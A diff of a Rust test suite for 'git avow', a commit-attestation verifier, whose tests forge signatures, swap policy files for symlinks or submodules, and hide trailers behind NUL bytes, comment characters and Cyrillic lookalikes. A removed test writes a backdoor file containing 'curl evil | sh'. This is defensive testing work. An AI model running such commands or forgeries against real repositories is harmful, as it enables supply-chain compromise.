@@ -3,7 +3,8 @@
 //! the verifier refusing it, naming the rule that decided (exit 1), or
 //! stopping with an error (exit 2) where the input is not something a
 //! verdict can be given on. The doc links each entry to its test by name,
-//! so rename a test only together with the doc.
+//! so rename a test only together with the doc. Attacks on the trust base,
+//! merges and path rules are in [`crate::attacks_trust`].
 //!
 //! Forgeries are made the way an attacker would: the message is rewritten
 //! without the hooks, and where the attacker holds a key the canonical
@@ -17,7 +18,7 @@ use crate::policy::{adopt, hook_refuses, msg, verdicts, BOB_EMAIL, BOB_NAME};
 use crate::support::*;
 
 /// Alice's attested change on top of the trusted base `base`.
-fn attested() -> World {
+pub(crate) fn attested() -> World {
     let w = World::adopted("disclose");
     w.change("src/parse.rs", "fn parse() {}\n", "Fix the parser");
     assert_eq!(verdicts(&w, &["base..HEAD"], 0), ["Fix the parser: accepted"]);
@@ -27,14 +28,14 @@ fn attested() -> World {
 /// `git avow verify RANGE` refuses (exit 1); one `SUBJECT: VERDICT rules…`
 /// line per commit, checked against the human output too.
 #[track_caller]
-fn refused(w: &World, range: &str) -> Vec<String> {
+pub(crate) fn refused(w: &World, range: &str) -> Vec<String> {
     verdicts(w, &[range], 1)
 }
 
 /// `git avow verify ARGS` stops with exit 2 and exactly this one-line
 /// reason and hint on stderr, nothing on stdout.
 #[track_caller]
-fn stops(w: &World, args: &[&str], stderr: &str) {
+pub(crate) fn stops(w: &World, args: &[&str], stderr: &str) {
     let mut all = vec!["verify"];
     all.extend_from_slice(args);
     let r = w.avow(&all).expect(2);
@@ -96,7 +97,7 @@ fn keygen_type(w: &World, name: &str, kind: &str) -> PathBuf {
 
 /// A trusted base (`trusted`) whose keyring has Alice (maintainer) and Bob
 /// (contributor); returns Bob's key.
-fn with_bob() -> (World, PathBuf) {
+pub(crate) fn with_bob() -> (World, PathBuf) {
     let w = adopt("disclose", None);
     let bob = w.keygen("bob");
     let pubkey = format!("{}.pub", bob.display());
@@ -120,14 +121,14 @@ fn as_bob(bob: &Path) -> Vec<String> {
 }
 
 /// Bob commits `file` through the hook (his attestation, his key).
-fn bob_commits(w: &World, bob: &Path, file: &str, subject: &str) {
+pub(crate) fn bob_commits(w: &World, bob: &Path, file: &str, subject: &str) {
     w.write(file, subject);
     w.git(["add", "--", file]);
     bob_commits_staged(w, bob, subject);
 }
 
 /// Bob commits what is staged through the hook.
-fn bob_commits_staged(w: &World, bob: &Path, subject: &str) {
+pub(crate) fn bob_commits_staged(w: &World, bob: &Path, subject: &str) {
     let mut args = as_bob(bob);
     args.extend(["commit".to_owned(), "-q".to_owned(), format!("--author={BOB_NAME} <{BOB_EMAIL}>")]);
     args.extend(msg(subject, "human", &[]));
@@ -140,6 +141,14 @@ fn edit_the_diff(w: &World) {
     w.git(["add", "-A"]);
     w.git(["commit", "-q", "--amend", "--no-verify", "--no-edit"]);
 }
+
+/// The first 12 hex digits of a revision.
+pub(crate) fn short(w: &World, rev: &str) -> String {
+    w.git(["rev-parse", "--short=12", rev])
+}
+
+/// A rationale for commits whose words do not matter.
+pub(crate) const RESOLUTION: &str = "Rationale: The merge adds the glue both branches need to build together.";
 
 // ------------------------------------------------------------ replay
 
@@ -238,6 +247,20 @@ fn padded_signature() {
     // Four more bytes after the SSHSIG blob, still canonical base64.
     set_sig_field(&w, "s", &format!("{s}AAAAAA=="));
     assert_eq!(refused(&w, "base..HEAD"), ["Fix the parser: rejected signature.invalid"]);
+    // A megabyte of signature is refused before it is decoded.
+    set_sig_field(&w, "s", &"A".repeat(1 << 20));
+    assert_eq!(refused(&w, "base..HEAD"), ["Fix the parser: rejected signature.invalid"]);
+}
+
+#[test]
+fn wrong_type_blob_as_signature() {
+    let w = attested();
+    // Valid base64 of another SSH structure: Alice's public key blob.
+    let pubkey = std::fs::read_to_string(format!("{}.pub", w.key.display())).unwrap();
+    set_sig_field(&w, "s", pubkey.split(' ').nth(1).unwrap());
+    assert_eq!(refused(&w, "base..HEAD"), ["Fix the parser: rejected signature.invalid"]);
+    let out = w.avow(["verify", "base..HEAD"]).stdout;
+    assert!(out.contains("does not start with SSHSIG"), "{out}");
 }
 
 #[test]
@@ -396,6 +419,25 @@ fn keyring_with_extra_person(
 }
 
 #[test]
+fn understood_by_name_differs_from_the_keyring_through_the_hook() {
+    let w = World::adopted("disclose");
+    // An honest mismatch: git's user.name is not the keyring's name. The
+    // hook signs but says what verification will make of it.
+    w.git(["config", "user.name", "A. Example"]);
+    w.write("a.c", "a\n");
+    w.git(["add", "-A"]);
+    let r = w.commit(&["-m", "Add a", "--trailer", "Authorship: human", "--trailer", RESOLUTION]).expect(0);
+    assert_eq!(
+        r.stderr,
+        format!(
+            "avow: warning: `Understood-by: A. Example <{AUTHOR_EMAIL}>` gives another name than .avow/keyring.toml (\"{AUTHOR_NAME}\"); \
+             verification will refuse it (understood-by.name): `git config user.name \"{AUTHOR_NAME}\"` and re-attest with `git commit --amend --no-edit`\n"
+        )
+    );
+    assert_eq!(refused(&w, "base..HEAD"), ["Add a: rejected understood-by.name"]);
+}
+
+#[test]
 fn case_variant_email_registered_twice_in_the_keyring() {
     let upper = AUTHOR_EMAIL.to_uppercase();
     keyring_with_extra_person(
@@ -410,6 +452,17 @@ fn one_key_listed_for_two_people_in_the_keyring() {
     keyring_with_extra_person(
         |_, bob| ("mallory@example.org".to_owned(), bob.to_path_buf()),
         |fpr| format!("32: person[2].key[0].key: key {fpr} is already listed at person[1].key[0] (line 23)"),
+    );
+}
+
+#[test]
+fn non_ed25519_key_in_the_keyring() {
+    keyring_with_extra_person(
+        |w, _| ("mallory@example.org".to_owned(), keygen_type(w, "mallory", "rsa")),
+        |_| {
+            "32: person[2].key[0].key: ssh-rsa keys are not accepted: avow accepts ssh-ed25519 and sk-ssh-ed25519@openssh.com keys"
+                .to_owned()
+        },
     );
 }
 
@@ -457,307 +510,6 @@ fn attestation_presented_as_a_git_commit_signature() {
     assert!(!check("git"));
 }
 
-// ------------------------------------------------------ the trust base
-
-/// The first 12 hex digits of a revision.
-fn short(w: &World, rev: &str) -> String {
-    w.git(["rev-parse", "--short=12", rev])
-}
-
-#[test]
-fn trust_revision_inside_the_range() {
-    let (w, bob) = with_bob();
-    // Bob's pull request makes him a maintainer, then does his work.
-    let path = w.path().join(".avow/keyring.toml");
-    let text = std::fs::read_to_string(&path).unwrap();
-    let promoted = text.replace("role = \"contributor\"", "role = \"maintainer\"");
-    assert_ne!(promoted, text);
-    std::fs::write(&path, promoted).unwrap();
-    w.git(["add", "-A"]);
-    bob_commits_staged(&w, &bob, "Make Bob a maintainer");
-    bob_commits(&w, &bob, "b.c", "Bob's work");
-    assert_eq!(
-        refused(&w, "trusted..HEAD"),
-        ["Make Bob a maintainer: rejected trust.avow-change", "Bob's work: accepted"]
-    );
-    // A CI job that trusts the tip, or any commit of the pull request,
-    // would let it vouch for itself: the chain from the base is checked.
-    let promotion = short(&w, "HEAD~1");
-    for (range, trust) in [("trusted..HEAD", "HEAD"), ("trusted..HEAD", "HEAD~1"), ("trusted..HEAD~1", "HEAD")] {
-        stops(
-            &w,
-            &[range, "--trust", trust],
-            &format!(
-                "git-avow: error: --trust {trust} is not reachable from the base trusted through trusted changes: \
-                 commit {promotion} (\"Make Bob a maintainer\") changes .avow/ without a maintainer's valid attestation under the base's keyring\n\
-                 hint: trust a revision the base contains (the default, `--trust trusted`), or have a maintainer attest the .avow/ change\n"
-            ),
-        );
-    }
-}
-
-#[test]
-fn trust_revision_on_an_orphan_branch() {
-    let w = attested();
-    // A history of its own whose first commit brings an attacker's .avow/.
-    w.git(["checkout", "-q", "--orphan", "elsewhere"]);
-    w.git(["commit", "-q", "--no-verify", "-m", "Start over"]);
-    w.git(["checkout", "-q", "main"]);
-    stops(
-        &w,
-        &["base..HEAD", "--trust", "elsewhere"],
-        &format!(
-            "git-avow: error: --trust elsewhere is not reachable from the base base through trusted changes: \
-             commit {} (\"Start over\") changes .avow/ without a maintainer's valid attestation under the base's keyring\n\
-             hint: trust a revision the base contains (the default, `--trust base`), or have a maintainer attest the .avow/ change\n",
-            short(&w, "elsewhere")
-        ),
-    );
-}
-
-/// Bob's pull request does `change` to the work tree and index, commits it
-/// through the hook with his key, and `verify trusted..HEAD` refuses it.
-#[track_caller]
-fn bob_changes_avow(subject: &str, change: impl FnOnce(&World)) -> World {
-    let (w, bob) = with_bob();
-    change(&w);
-    bob_commits_staged(&w, &bob, subject);
-    assert_eq!(refused(&w, "trusted..HEAD"), [format!("{subject}: rejected trust.avow-change")]);
-    w
-}
-
-#[test]
-fn keyring_deleted_in_the_range() {
-    bob_changes_avow("Drop the keyring", |w| {
-        w.git(["rm", "-q", ".avow/keyring.toml"]);
-    });
-}
-
-#[test]
-fn avow_dir_replaced_by_a_symlink_in_the_range() {
-    bob_changes_avow("Move the policy", |w| {
-        w.write("evil/policy.toml", "version = 1\n");
-        w.write("evil/keyring.toml", "version = 1\n");
-        w.git(["rm", "-q", "-r", ".avow"]);
-        std::os::unix::fs::symlink("evil", w.path().join(".avow")).unwrap();
-        w.git(["add", "-A"]);
-    });
-}
-
-#[test]
-fn avow_dir_replaced_by_a_submodule_in_the_range() {
-    bob_changes_avow("Vendor the policy", |w| {
-        // A gitlink where the directory was; the work tree keeps its files.
-        let target = format!("160000,{},.avow", w.git(["rev-parse", "HEAD"]));
-        w.git(["rm", "-q", "-r", "--cached", ".avow"]);
-        w.git(["update-index", "--add", "--cacheinfo", &target]);
-    });
-}
-
-#[test]
-fn case_variant_avow_dir_in_the_range() {
-    // On a case-insensitive checkout `.AVOW/keyring.toml` is the keyring.
-    bob_changes_avow("Add a keyring", |w| {
-        w.write(".AVOW/keyring.toml", "version = 1\n");
-        w.git(["add", "-A"]);
-    });
-}
-
-/// A base tagged `trusted` whose tree is the current one with `.avow`
-/// replaced as `change` does; then Alice's attested work on top.
-fn trusted_base_with(change: impl FnOnce(&World)) -> World {
-    let w = adopt("disclose", None);
-    change(&w);
-    w.git(["commit", "-q", "--no-verify", "-m", "Odd .avow"]);
-    w.git(["tag", "-f", "trusted"]);
-    w
-}
-
-/// Moves `path` to `to` and puts a symlink to `target` in its place.
-fn behind_a_symlink(w: &World, path: &str, to: &str, target: &str) {
-    w.git(["mv", path, to]);
-    std::os::unix::fs::symlink(target, w.path().join(path)).unwrap();
-    w.git(["add", "-A"]);
-}
-
-/// git does not look through a symlink or into a submodule for a path.
-const NO_KEYRING_AT_TRUSTED: &str = "git-avow: error: there is no .avow/keyring.toml at trusted\n\
-    hint: run `git avow init`, commit .avow/, and verify ranges whose base contains it (or pass --trust REV)\n";
-
-#[test]
-fn avow_dir_symlink_at_the_trust_base() {
-    let w = trusted_base_with(|w| behind_a_symlink(w, ".avow", "real", "real"));
-    stops(&w, &["trusted..HEAD"], NO_KEYRING_AT_TRUSTED);
-}
-
-#[test]
-fn keyring_file_symlink_at_the_trust_base() {
-    let w = trusted_base_with(|w| behind_a_symlink(w, ".avow/keyring.toml", "keyring.toml", "../keyring.toml"));
-    stops(
-        &w,
-        &["trusted..HEAD"],
-        "git-avow: error: .avow/keyring.toml at trusted is not a regular file (mode 120000); symlinks and submodules are refused\n\
-         hint: restore .avow/ as regular text files in a trusted commit\n",
-    );
-}
-
-#[test]
-fn avow_dir_submodule_at_the_trust_base() {
-    let w = trusted_base_with(|w| {
-        let target = format!("160000,{},.avow", w.git(["rev-parse", "HEAD"]));
-        w.git(["rm", "-q", "-r", "--cached", ".avow"]);
-        w.git(["update-index", "--add", "--cacheinfo", &target]);
-    });
-    stops(&w, &["trusted..HEAD"], NO_KEYRING_AT_TRUSTED);
-}
-
-#[test]
-fn adoption_point_moved_by_a_tag() {
-    let w = World::bare();
-    w.commit_all("Old work");
-    w.git(["tag", "v1"]);
-    w.avow(["init"]).expect(0);
-    let policy = std::fs::read_to_string(w.path().join(".avow/policy.toml")).unwrap();
-    w.write(".avow/policy.toml", policy.replace("# since = \"v1.4.0\"", "since = \"v1\""));
-    w.git(["add", ".avow"]);
-    w.git(["commit", "-q", "--no-verify", "-m", "Adopt avow"]);
-    w.git(["tag", "trusted"]);
-    w.write("new.txt", "unattested\n");
-    w.git(["add", "-A"]);
-    w.git(["commit", "-q", "--no-verify", "-m", "Unattested work"]);
-    assert_eq!(refused(&w, "trusted..HEAD"), ["Unattested work: rejected attestation.missing"]);
-    // The tag the policy names now points at the pull request (a fork's
-    // tags, a re-pushed tag): everything up to it would be exempt.
-    w.git(["tag", "-f", "v1", "HEAD"]);
-    stops(
-        &w,
-        &["trusted..HEAD"],
-        &format!(
-            "git-avow: error: adoption.since = \"v1\" in .avow/policy.toml at trusted resolves to {}, which is not in the history of trusted; \
-             a moved tag or branch would exempt other commits\n\
-             hint: name the adoption commit by its full id in .avow/policy.toml (a commit a maintainer attests), and check where the tag points\n",
-            w.git(["rev-parse", "HEAD"])
-        ),
-    );
-}
-
-#[test]
-fn exempt_author_changes_the_keyring() {
-    let bot = "49699333+dependabot[bot]@users.noreply.github.com";
-    let w = adopt("disclose", Some(&format!("version = 1\n[exempt]\nemails = [\"{bot}\"]\n")));
-    // Anyone can write a bot's name as the author.
-    w.write("deps.txt", "serde 1.0.1\n");
-    w.git(["add", "-A"]);
-    let author = format!("--author=dependabot[bot] <{bot}>");
-    w.git(["commit", "-q", "--no-verify", &author, "-m", "Bump serde"]);
-    w.write(".avow/policy.toml", "version = 1\n");
-    w.git(["add", "-A"]);
-    w.git(["commit", "-q", "--no-verify", &author, "-m", "Bump the policy"]);
-    assert_eq!(refused(&w, "trusted..HEAD"), ["Bump serde: exempt", "Bump the policy: rejected trust.avow-change"]);
-}
-
-// ------------------------------------------------------------ merges
-
-/// Alice's attested work on `feature` and on `main`, under `policy`, and
-/// `git merge --no-ff --no-commit` of the `branches` left in progress.
-fn merging(policy: &str, branches: &[&str]) -> World {
-    let w = adopt("disclose", Some(policy));
-    for b in branches {
-        w.git(["checkout", "-q", "-b", b, "trusted"]);
-        w.change(&format!("{b}.txt"), &format!("{b}\n"), &format!("Work on {b}"));
-    }
-    w.git(["checkout", "-q", "main"]);
-    w.change("main.txt", "main\n", "Work on main");
-    let mut args = vec!["merge", "-q", "--no-ff", "--no-commit"];
-    args.extend_from_slice(branches);
-    w.git(args);
-    w
-}
-
-/// Verdict lines in a fixed order (parents of a merge have no order of
-/// their own in the output).
-fn sorted(mut v: Vec<String>) -> Vec<String> {
-    v.sort();
-    v
-}
-
-#[test]
-fn evil_merge_under_merges_skip() {
-    let w = merging("version = 1\nmerges = \"skip\"\n", &["feature"]);
-    // A change of the merge's own, in no parent: nobody attested it.
-    w.write("backdoor.sh", "curl evil | sh\n");
-    w.git(["add", "-A"]);
-    w.git(["commit", "-q", "--no-verify", "-m", "Merge feature"]);
-    assert_eq!(
-        sorted(refused(&w, "trusted..HEAD")),
-        [
-            "Merge feature: rejected attestation.missing warning merge.unclean",
-            "Work on feature: accepted",
-            "Work on main: accepted",
-        ]
-    );
-    // Reverting the first parent's change in the merge is a change too.
-    w.git(["reset", "-q", "--hard", "HEAD^"]);
-    w.git(["merge", "-q", "--no-ff", "--no-commit", "feature"]);
-    w.git(["rm", "-q", "main.txt"]);
-    w.git(["commit", "-q", "--no-verify", "-m", "Merge feature"]);
-    assert_eq!(refused(&w, "trusted..HEAD")[2], "Merge feature: rejected attestation.missing warning merge.unclean");
-    // The clean merge is skipped, and an attested one is accepted.
-    w.git(["reset", "-q", "--hard", "HEAD^"]);
-    w.git(["merge", "-q", "--no-ff", "--no-verify", "-m", "Merge feature", "feature"]);
-    assert_eq!(verdicts(&w, &["trusted..HEAD"], 0)[2], "Merge feature: skipped");
-    w.write("glue.txt", "glue\n");
-    w.git(["add", "-A"]);
-    w.commit(&["--amend", "-q", "--no-edit", "--trailer", "Authorship: human", "--trailer", RESOLUTION]).expect(0);
-    assert_eq!(verdicts(&w, &["trusted..HEAD"], 0)[2], "Merge feature: accepted warning merge.unclean");
-}
-
-const RESOLUTION: &str = "Rationale: The merge adds the glue both branches need to build together.";
-
-#[test]
-fn evil_octopus_merge_under_merges_skip() {
-    let w = merging("version = 1\nmerges = \"skip\"\n", &["one", "two"]);
-    w.git(["commit", "-q", "--no-verify", "-m", "Merge one and two"]);
-    assert_eq!(verdicts(&w, &["trusted..HEAD"], 0)[3], "Merge one and two: skipped");
-    w.write("two.txt", "two, and something else\n");
-    w.git(["add", "-A"]);
-    w.git(["commit", "-q", "--amend", "--no-verify", "--no-edit"]);
-    assert_eq!(
-        refused(&w, "trusted..HEAD")[3],
-        "Merge one and two: rejected attestation.missing warning merge.unclean"
-    );
-}
-
-#[test]
-fn merge_brings_unattested_commits_from_the_second_parent() {
-    let w = adopt("disclose", Some("version = 1\nmerges = \"skip\"\n"));
-    w.git(["checkout", "-q", "-b", "feature"]);
-    w.write("feature.txt", "unattested\n");
-    w.git(["add", "-A"]);
-    w.git(["commit", "-q", "--no-verify", "-m", "Sneak in a feature"]);
-    w.git(["checkout", "-q", "main"]);
-    w.change("main.txt", "main\n", "Work on main");
-    w.git(["merge", "-q", "--no-ff", "--no-verify", "-m", "Merge feature", "feature"]);
-    // The merge is clean and skipped; what it brings is checked commit by
-    // commit, second parent included.
-    assert_eq!(
-        sorted(refused(&w, "trusted..HEAD")),
-        ["Merge feature: skipped", "Sneak in a feature: rejected attestation.missing", "Work on main: accepted"]
-    );
-}
-
-#[test]
-fn attested_merge_resolution_edited_after_signing() {
-    let w = merging("version = 1\nmerges = \"require\"\n", &["feature"]);
-    w.commit(&["-m", "Merge feature", "--trailer", "Authorship: human", "--trailer", RESOLUTION]).expect(0);
-    assert_eq!(verdicts(&w, &["trusted..HEAD"], 0)[2], "Merge feature: accepted");
-    // The first-parent diff of a merge is what its attestation binds.
-    w.write("feature.txt", "feature, edited in the merge\n");
-    w.git(["add", "-A"]);
-    w.git(["commit", "-q", "--amend", "--no-verify", "--no-edit"]);
-    assert_eq!(refused(&w, "trusted..HEAD")[2], "Merge feature: rejected attestation.change");
-}
-
 // ------------------------------------------- text that reads differently
 
 #[test]
@@ -775,6 +527,12 @@ fn terminal_escape_sequences_in_the_subject() {
          write it without control or bidirectional characters and re-commit [message.unsafe-characters]\n\
          avow: 1 commit: 0 accepted, 1 rejected (range base..HEAD, trust base)\n"
     );
+    // `show` and `report` print the commit's text too, never its escapes.
+    for args in [["show", "HEAD"], ["report", "base..HEAD"]] {
+        let out = w.avow(args).stdout;
+        assert!(out.contains("Fix the parser\\u{1b}[1A"), "{out}");
+        assert!(!out.contains('\u{1b}'), "{out}");
+    }
 }
 
 #[test]
@@ -817,6 +575,54 @@ fn git_replace_substitutes_an_attested_commit() {
     assert!(w.message("HEAD").contains("Avow-Signature: v1 "));
     // The verifier reads the objects, not the replacement.
     assert_eq!(refused(&w, "base..main"), ["Fix the parser: rejected attestation.missing"]);
+}
+
+#[test]
+fn trailers_after_a_nul_byte() {
+    let w = attested();
+    // git refuses such an object (fsck: nulInCommit) unless forced; its
+    // tools read the message up to the NUL, and so does avow.
+    let raw = w.git(["cat-file", "commit", "HEAD"]);
+    let (header, message) = raw.split_once("\n\n").unwrap();
+    let forged = format!("{header}\n\nFix the parser\n\nNothing to see.\0{message}\n");
+    let id = w.git_stdin(["hash-object", "--literally", "-t", "commit", "-w", "--stdin"], forged.as_bytes());
+    let id = String::from_utf8(id).unwrap();
+    w.git(["reset", "-q", "--hard", id.trim()]);
+    assert_eq!(w.message("HEAD"), "Fix the parser\n\nNothing to see.");
+    assert_eq!(refused(&w, "base..HEAD"), ["Fix the parser: rejected attestation.missing"]);
+}
+
+#[test]
+fn comment_character_hides_a_statement_trailer() {
+    let w = attested();
+    // A `#` line is a comment to git's trailer parser: the reader of the
+    // log still sees the line, git does not count it, nor does avow.
+    w.tamper_message(|m| m.replace("Authorship: human", "# Authorship: human"));
+    let trailers = w.git_stdin(["interpret-trailers", "--parse"], w.message("HEAD").as_bytes());
+    assert!(!String::from_utf8(trailers).unwrap().contains("Authorship"));
+    assert_eq!(refused(&w, "base..HEAD"), ["Fix the parser: rejected attestation.statement"]);
+}
+
+#[test]
+fn lookalike_statement_trailer_added_after_signing() {
+    let w = World::adopted("disclose");
+    // A generated change, signed off, as the hook attests it.
+    w.write("gen.rs", "fn generated() {}\n");
+    w.git(["add", "-A"]);
+    let args = ["-s", "-m", "Add the generated code", "--trailer", "Authorship: generated"];
+    let mut args: Vec<String> = args.iter().map(|a| (*a).to_owned()).collect();
+    let rationale = "Rationale: The bindings are generated from the schema, which is the source of truth.";
+    args.extend(["--trailer".into(), "Assisted-by: Devin:unknown".into(), "--trailer".into(), rationale.into()]);
+    crate::policy::commit(&w, &[], &args).expect(0);
+    assert_eq!(verdicts(&w, &["base..HEAD"], 0), ["Add the generated code: accepted"]);
+    // A line that reads `Authorship: human` (Cyrillic А). With a
+    // Signed-off-by in the block git keeps reading the real trailers and
+    // ignores this line; the log shows it to every reader.
+    w.tamper_message(|m| m.replacen("Authorship: generated", "\u{410}uthorship: human\nAuthorship: generated", 1));
+    let trailers = String::from_utf8(w.git_stdin(["interpret-trailers", "--parse"], w.message("HEAD").as_bytes()));
+    let trailers = trailers.unwrap();
+    assert!(trailers.contains("\nAuthorship: generated\n") && !trailers.contains("human"), "{trailers}");
+    assert_eq!(refused(&w, "base..HEAD"), ["Add the generated code: rejected message.lookalike-trailer"]);
 }
 
 #[test]
